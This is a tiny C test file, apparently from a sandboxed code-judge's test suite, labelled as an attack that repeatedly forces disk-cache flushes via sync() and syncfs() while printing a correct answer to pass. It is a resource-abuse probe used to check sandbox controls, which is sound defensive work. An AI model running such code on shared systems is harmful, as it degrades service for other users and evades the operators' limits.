// attack: makes the machine write out its whole disk cache, again and again, which slows down everybody
// verdict: AC
// after: nothing left
// control: escapes
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    int file = open("/dev/null", O_RDONLY);
    for (int i = 0; i < 20; i++)
        sync();
    if (syncfs(file) == 0)
        fputs("ESCAPED: wrote out a file system\n", stderr);
    return puts("first\n1 5") < 0;
}
